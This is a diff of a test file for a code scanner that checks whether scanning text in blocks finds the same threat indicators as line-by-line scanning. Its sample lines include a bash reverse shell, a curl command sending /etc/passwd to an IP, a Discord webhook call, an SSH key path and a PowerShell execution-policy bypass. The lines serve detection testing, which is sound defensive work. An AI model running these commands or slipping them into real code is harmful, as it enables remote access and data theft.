@@ -1,6 +1,7 @@
 // Threat indicators found in string values: request-capture and out-of-band testing hosts.
 import { describe, expect, it } from 'vitest'
 import { indicatorsIn } from '../../src/scanning/indicators.ts'
+import { FactSink, scanText } from '../../src/scanning/languages/source-file.ts'
 
 const kinds = (value: string) => indicatorsIn(value).map((f) => f.kind)
 
@@ -49,5 +50,59 @@ describe('destructive commands', () => {
 
   it.each(['rm -rf build/ dist/', 'rm -rf /tmp/synthetic-cache', 'rm -rf ~/.cache/synthetic', 'register a shutdown_hook', "'{}'.format(x)", 'systemctl restart nginx', 'git reset --hard'])('not %s', (command) => {
     expect(kinds(command)).not.toContain('destructive-command')
+  })
+})
+
+describe('text scanned in blocks of lines', () => {
+  // Lines that carry indicators, including the kinds anchored at a line's edge and values judged whole.
+  const carriers = [
+    "fetch('https://discord.com/api/webhooks/1/abc', { body })",
+    '.ssh/id_rsa',
+    'rm -rf ~/*',
+    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+    'powershell -executionpolicy bypass',
+    '-file run.ps1',
+    'x = "c59d3ab1.oast.pro"',
+    'curl -s 198.51.100.20:8080 -d @/etc/passwd',
+    'Buffer.from("aHR0cHM6Ly9leGFtcGxlLm9hc3RpZnkuY29tL3g=", "base64")',
+    'aHR0cHM6Ly9leGFtcGxlLm9hc3RpZnkuY29tL3g=',
+    `TVqQAAMAAAAEAAAA//8AALgA${'A'.repeat(200)}"); start(x)`,
+    `4d5a9000${'00'.repeat(120)}`,
+    'echo ok >> ~/.bashrc',
+  ]
+  const filler = ['function f(a, b) { return a + b }', '  const x = require("./y")', '', '}', 'if (x) { y() } else { z() }', '// a comment, with words.', 'ok']
+  // a small deterministic generator, so a failure can be replayed
+  let seed = 7
+  const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648
+  // rare carriers leave most blocks with one or none, so skipping a block is exercised too
+  const source = (lines: number, rate: number) =>
+    Array.from({ length: lines }, () => (next() < rate ? carriers[Math.floor(next() * carriers.length)]! : filler[Math.floor(next() * filler.length)]!)).join('\n')
+  const found = (sink: FactSink) => sink.facts().indicators.map((i) => `${i.line}:${i.kind}:${i.value}`)
+
+  it('finds what looking at every line alone finds, at the same lines', () => {
+    // each carrier alone in a block of filler, then mixtures
+    const alone = carriers.map((carrier) => [source(200, 0), carrier, source(200, 0)].join('\n'))
+    const mixed = Array.from({ length: 12 }, (_, round) => source(3000, [0.001, 0.01, 0.08][round % 3]!))
+    let finds = 0
+    for (const text of [...alone, ...mixed]) {
+      const oracle = new FactSink('a.js', 'shell', text)
+      let offset = 0
+      for (const line of text.split('\n')) {
+        oracle.text(line, offset)
+        offset += line.length + 1
+      }
+      const blocks = new FactSink('a.js', 'shell', text)
+      scanText(blocks)
+      expect(found(blocks)).toEqual(found(oracle))
+      finds += found(oracle).length
+    }
+    expect(finds).toBeGreaterThan(carriers.length * 4)
+  })
+
+  it('looks at the whole of a long minified line, not just its end', () => {
+    const minified = `${'var a=1;'.repeat(10_000)}fetch("https://discord.com/api/webhooks/1/abc");${'var b=2;'.repeat(10_000)}`
+    const sink = new FactSink('bundle.js', 'shell', minified)
+    scanText(sink)
+    expect(sink.facts().indicators.map((i) => i.kind)).toContain('webhook')
   })
 })
